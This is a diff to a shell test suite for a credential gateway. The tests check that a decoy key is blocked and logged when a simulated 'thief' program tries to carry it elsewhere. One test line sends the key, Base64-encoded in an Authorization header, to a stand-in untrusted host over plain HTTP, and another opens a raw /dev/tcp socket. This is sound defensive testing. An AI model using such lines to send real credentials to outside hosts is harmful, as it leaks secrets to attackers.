@@ -24,6 +24,12 @@ clean() { # ROW: what it got hold of
 	hit=$(grep -rlaF "$REAL_KEY" "$LAB/loot" "$LAB/home" 2>/dev/null)
 	check "$1: no byte of the credential" test -z "$hit"
 }
+in_clear() { # NAME LOG: a server at port 80 of that host, which answers when this returns
+	local at
+	at=$(awk -v n="$1.lab.test" '$2 == n { print $1 }' /etc/hosts)
+	lab_net "$BUILD/aids/mock_mcp" --listen "$at" --port 80 --log "$LAB/$2.log" 2>/dev/null &
+	lab_wait 5 lab_net bash -c "exec 3<>/dev/tcp/$at/80" 2>/dev/null
+}
 pids=$(pgrep -P "$LAB_DAEMON" callgate-)
 
 # ---- ptrace, /proc/PID/mem ----
@@ -162,6 +168,37 @@ check "a process number used again: the first process was answered, the second w
 check "a process number used again: recorded as what it is" recorded reused '.verdict=="deny"'
 clean "executables and process numbers"
 
+# ---- the fake key of her configuration, carried elsewhere ----
+callgate grant add --user alice --server mcp --policy lab >/dev/null
+fake=$(callgate vault placeholder mcp-key --prefix ghp_ --for alice 2>"$LAB/fake.err")
+id=$(grep -o 'p-[0-9a-f]\{8\}' "$LAB/fake.err")
+check "a placeholder: looks like a key of its kind" bash -c '[[ $1 =~ ^ghp_[A-Za-z0-9]{36}$ ]]' - "$fake"
+weapon thief
+has "a placeholder: on the way to its own server it is nothing" "$(PLACEHOLDER=$fake strike thief alice echo '{"message":"home"}')" home
+check "a placeholder: no alert" test "$(lab_records '.kind=="alert"' | wc -l)" = 0
+printf %s another-key-111 | callgate vault set other-key >/dev/null
+callgate server remove slow >/dev/null 2>&1 || { callgate grant revoke "$(callgate --json grant list --user alice --server slow | jq -r '.grants[0].id')" && callgate server remove slow; } >/dev/null
+callgate server add slow --host other.lab.test --path /mcp --credential other-key >/dev/null
+callgate grant add --user alice --server slow --policy lab >/dev/null
+: >"$LAB/other.log"
+has "a placeholder: refused at another server" "$(PLACEHOLDER=$fake MCP=https://other.lab.test/mcp strike thief alice echo '{"message":"away"}')" 'rule (placeholder)'
+hasnt "a placeholder: it did not get there" "$(cat "$LAB/other.log")" away
+has "a placeholder: refused as an argument, at its own server too" "$(strike thief alice echo "{\"message\":\"$fake\"}")" 'rule (placeholder)'
+in_clear untrusted clear
+lab_as alice "$LAB/m/a/thief" -sS --max-time 10 -H "Authorization: Basic $(printf 'x:%s' "$fake" | base64 -w0)" http://untrusted.lab.test/ >/dev/null 2>&1
+hasnt "a placeholder: does not leave over plain HTTP" "$(cat "$LAB/clear.log" 2>/dev/null)" Basic
+sum=$(sha256sum "$LAB/m/a/thief" | cut -d' ' -f1)
+for at in '.server=="slow" and (.detail|endswith("head of a request"))' '.server=="mcp" and (.detail|endswith("body of a request"))' '.dst_host=="untrusted.lab.test" and (.detail|endswith("without TLS"))'; do
+	check "a placeholder: an alert says who and where: $at" lab_wait 3 lab_has_record ".kind==\"alert\" and .event==\"placeholder\" and .cred==\"mcp-key\" and .uid==12001 and .exe_sha256==\"$sum\" and (.detail|startswith(\"placeholder $id, \")) and $at"
+done
+check "a placeholder: audit query finds them" test "$(callgate audit query --kind alert event=placeholder cred=mcp-key --count)" = 3
+has "a placeholder: audit tail shows them" "$(callgate audit tail --kind alert)" '(placeholder)'
+check "a placeholder: no record and no log has the key" bash -c '! grep -rF "$1" "$2" && ! zgrep -F "$1" /var/log/callgate/audit/*/* /var/lib/callgate/journal/*/*' - "${fake:4}" "$LAB/callgated.log"
+has "a placeholder: alice cannot list them" "$(lab_as alice "$BUILD/callgate" vault placeholder --list 2>&1)" 'refused'
+callgate vault placeholder --remove "$id" >/dev/null
+has "a placeholder: removed, it is a text" "$(strike thief alice echo "{\"message\":\"$fake\"}")" "$fake"
+callgate grant revoke "$(callgate --json grant list --user alice --server mcp | jq -r '.grants[] | select(.exe_sha256 == null) | .id')" >/dev/null
+
 # ---- other servers ----
 weapon misled
 addr=$(awk '$2 == "untrusted.lab.test" { print $1 }' /etc/hosts)
@@ -176,7 +213,7 @@ cat "$LAB/hosts" >/etc/hosts
 check "the registered name elsewhere: recorded" recorded misled
 check "the registered name elsewhere: nothing was asked of the false server" test ! -s "$LAB/untrusted.log"
 weapon plain
-lab_net "$BUILD/aids/mock_mcp" --listen "$(awk '$2 == "mcp.lab.test" { print $1 }' /etc/hosts)" --port 80 --log "$LAB/plain.log" 2>/dev/null &
+in_clear mcp plain
 hasnt "plain HTTP: no answer of the server" "$(lab_as alice "$LAB/m/a/plain" -sS --max-time 5 -H 'Content-Type: application/json' -d "$(rpc echo '{"message":"in-the-clear"}')" http://mcp.lab.test/mcp 2>&1 | tee "$LAB/loot/plain")" '"content"'
 check "plain HTTP: the request did not leave" bash -c "! grep -q . '$LAB/plain.log' 2>/dev/null"
 check "plain HTTP: recorded" lab_wait 3 lab_has_record ".exe==\"$LAB/m/a/plain\" and .verdict==\"refuse\""
